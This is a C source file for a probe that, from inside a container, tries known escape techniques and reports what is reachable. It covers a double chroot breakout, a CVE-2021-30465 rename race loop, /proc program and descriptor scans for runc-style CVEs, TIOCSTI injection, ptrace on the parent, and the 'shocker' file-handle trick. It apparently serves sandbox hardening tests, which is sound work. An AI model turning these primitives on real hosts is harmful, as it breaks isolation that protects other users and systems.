/* Known ways out of a container, tried from inside; what comes of them is printed, nothing on the host is changed.
 *
 *   trick chroot PATH     climb over a second chroot (chroot(2)), then look whether PATH, a file of the host, is there
 *   trick swap A B        exchange two names for ever: the race of CVE-2021-30465
 *   trick watch           look at every other process for ever: its program (CVE-2019-5736), its descriptors
 *                         (CVE-2016-9962, CVE-2024-21626), its memory; one line for each thing that could be reached
 *   trick type            push a letter into the terminal on standard input (CVE-2016-7545 and its kin)
 *   trick key NAME        look for a key of that name in the session's keyring
 *   trick orphan          become a child of whoever adopts orphans, and ptrace it
 *   trick handle          open the root of the file system below us by its number: the "shocker" of 2014
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

enum { HELD = 64 };
static int held[HELD], count;

static void say(const char *what, const struct stat *status)
{
	printf("%s %lu %lu\n", what, (unsigned long)status->st_dev, (unsigned long)status->st_ino);
}

/* A running program cannot be opened for writing (ETXTBSY); one that has ended can, through a descriptor kept open. */
static void try_to_write(void)
{
	for (int i = 0; i < count; i++) {
		char link[64];
		struct stat status;

		snprintf(link, sizeof link, "/proc/self/fd/%d", held[i]);
		int fd = open(link, O_WRONLY);
		if (fd < 0) continue;
		if (!fstat(fd, &status)) say("writable", &status);
		close(fd);
	}
}

static void hold_program(const char *pid)
{
	char path[512];

	snprintf(path, sizeof path, "/proc/%s/exe", pid);
	int fd = open(path, O_RDONLY);
	if (fd < 0) return;
	if (count == HELD) close(held[--count]);
	held[count++] = fd;
}

static void look_at_descriptors(const char *pid)
{
	char path[512];
	struct stat status;
	struct dirent *entry;

	snprintf(path, sizeof path, "/proc/%s/fd", pid);
	DIR *directory = opendir(path);
	if (!directory) return;
	while ((entry = readdir(directory))) {
		snprintf(path, sizeof path, "/proc/%s/fd/%s/.", pid, entry->d_name);
		if (entry->d_name[0] != '.' && !stat(path, &status)) say("directory", &status);
	}
	closedir(directory);
	snprintf(path, sizeof path, "/proc/%s/cwd/.", pid);
	if (!stat(path, &status)) say("directory", &status);
	snprintf(path, sizeof path, "/proc/%s/root/.", pid);
	if (!stat(path, &status)) say("directory", &status);
}

static void watch(void)
{
	char own[32];

	snprintf(own, sizeof own, "%d", getpid());
	puts("watching");
	for (;;) {
		struct dirent *entry;
		DIR *processes = opendir("/proc");

		if (!processes) exit(3);
		while ((entry = readdir(processes))) {
			if (entry->d_name[0] < '1' || entry->d_name[0] > '9' || !strcmp(entry->d_name, own)) continue;
			hold_program(entry->d_name);
			look_at_descriptors(entry->d_name);
		}
		closedir(processes);
		try_to_write();
	}
}

static void climb(const char *path)
{
	mkdir("/tmp/cell", 0700);
	if (chroot("/tmp/cell")) {
		printf("chroot %s\n", strerrorname_np(errno));
		return;
	}
	for (int i = 0; i < 64; i++)
		if (chdir("..")) break;
	if (chroot(".")) printf("second chroot %s\n", strerrorname_np(errno));
	puts(access(path, F_OK) ? "in" : "out");
}

static void orphan(void)
{
	/* PID 1 of this namespace adopts; a pid of the host's cannot even be named. 0 is what getppid says of outside. */
	pid_t above = getppid();

	printf("parent %d\n", above);
	long got = ptrace(PTRACE_ATTACH, above, 0, 0);
	printf("ptrace %s\n", got < 0 ? strerrorname_np(errno) : "ok");
}

static void handle(void)
{
	struct {
		struct file_handle head;
		unsigned int inode, generation;
	} root = { { .handle_bytes = 8, .handle_type = 1 }, 2, 0 };
	int here = open("/", O_RDONLY);
	int fd = syscall(SYS_open_by_handle_at, here, &root, O_RDONLY);

	printf("open_by_handle_at %s\n", fd < 0 ? strerrorname_np(errno) : "ok");
}

int main(int argc, char **argv)
{
	const char *name = argc > 1 ? argv[1] : "";

	setvbuf(stdout, NULL, _IOLBF, 0);
	if (!strcmp(name, "chroot") && argc > 2) {
		climb(argv[2]);
	} else if (!strcmp(name, "swap") && argc > 3) {
		puts("swapping");
		for (;;) syscall(SYS_renameat2, AT_FDCWD, argv[2], AT_FDCWD, argv[3], 2 /* RENAME_EXCHANGE */);
	} else if (!strcmp(name, "watch")) {
		watch();
	} else if (!strcmp(name, "type")) {
		printf("TIOCSTI %s\n", ioctl(0, TIOCSTI, "x") ? strerrorname_np(errno) : "ok");
	} else if (!strcmp(name, "key") && argc > 2) {
		long got = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", argv[2], 0);
		printf("keyctl %s\n", got < 0 ? strerrorname_np(errno) : "ok");
	} else if (!strcmp(name, "orphan")) {
		orphan();
	} else if (!strcmp(name, "handle")) {
		handle();
	} else {
		fprintf(stderr, "trick knows no %s\n", name);
		return 2;
	}
	return 0;
}
